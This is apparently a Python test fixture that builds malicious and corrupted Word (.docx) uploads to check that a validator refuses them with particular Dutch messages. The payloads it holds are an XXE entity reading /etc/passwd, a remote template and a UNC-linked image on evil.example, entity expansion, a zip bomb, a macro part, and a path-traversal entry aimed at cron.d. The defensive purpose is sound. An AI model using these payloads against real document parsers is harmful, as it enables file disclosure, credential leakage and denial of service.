"""Hostile and broken Word files, as an attacker or a damaged disk makes them, with what the refusal says.

`CASES` are (kind, make, said): `make(valid_docx)` gives the file, `said` a phrase of its Dutch refusal.
Used for every .docx upload: a note brought back, and a house-style template.
"""

from __future__ import annotations

import io
import zipfile

from builder.formats.upload import MAX_BYTES


def rezipped(data: bytes, change) -> bytes:
    """The package with `change(parts)` applied to its {name: bytes}."""
    with zipfile.ZipFile(io.BytesIO(data)) as source:
        parts = {i.filename: source.read(i) for i in source.infolist()}
    change(parts)
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for name, content in parts.items():
            target.writestr(name, content)
    return buffer.getvalue()


def with_macro(parts):
    parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0 macro"


def with_macro_type(parts):
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"document.main+xml", b"document.macroEnabled.main+xml"
    )


def with_attached_template(parts):
    parts["word/_rels/settings.xml.rels"] = (
        b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        b'attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
    )


def with_linked_image(parts):
    parts["word/_rels/document.xml.rels"] = parts["word/_rels/document.xml.rels"].replace(
        b"</Relationships>",
        b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" '
        b'Target="\\\\evil.example\\share\\logo.png" TargetMode="External"/></Relationships>',
    )


def with_entities(parts):
    parts["word/document.xml"] = (
        b'<?xml version="1.0"?><!DOCTYPE lol [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;">]>'
        b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">&lol2;</w:document>'
    )


def with_external_entity(parts):
    parts["word/document.xml"] = (
        b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">&x;</w:document>'
    )


def with_many_parts(parts):
    for n in range(500):
        parts[f"customXml/extra{n}.xml"] = b"<a/>"


def with_bomb(parts):
    parts["word/media/bom.xml"] = b"<a>" + b"0" * (39 * 1024 * 1024) + b"</a>"


def without_content_types(parts):
    del parts["[Content_Types].xml"]


def with_travelling_name(parts):
    parts["../../etc/cron.d/x"] = b"x"


def a_spreadsheet(parts):
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"wordprocessingml.document.main+xml", b"spreadsheetml.sheet.main+xml"
    )


CASES = [
    ("empty", lambda d: b"", "leeg"),
    ("not a zip", lambda d: b"%PDF-1.7 dit is geen Word", "geen Word-bestand"),
    ("too large", lambda d: b"x" * (MAX_BYTES + 1), "het maximum is 5 MB"),
    ("macros", lambda d: rezipped(d, with_macro), "macro"),
    ("macro-enabled type", lambda d: rezipped(d, with_macro_type), "macro"),
    ("external template", lambda d: rezipped(d, with_attached_template), "buiten zichzelf"),
    ("linked image", lambda d: rezipped(d, with_linked_image), "buiten zichzelf"),
    ("entities", lambda d: rezipped(d, with_entities), "DTD"),
    ("external entity", lambda d: rezipped(d, with_external_entity), "DTD"),
    ("too many parts", lambda d: rezipped(d, with_many_parts), "te veel onderdelen"),
    ("zip bomb", lambda d: rezipped(d, with_bomb), "samengeperst"),
    ("no content types", lambda d: rezipped(d, without_content_types), "geen Word-bestand"),
    ("path traversal", lambda d: rezipped(d, with_travelling_name), "ongeldige naam"),
    ("a spreadsheet", lambda d: rezipped(d, a_spreadsheet), "geen Word-bestand"),
    ("cut off", lambda d: d[: len(d) // 2], "geen Word-bestand"),
]
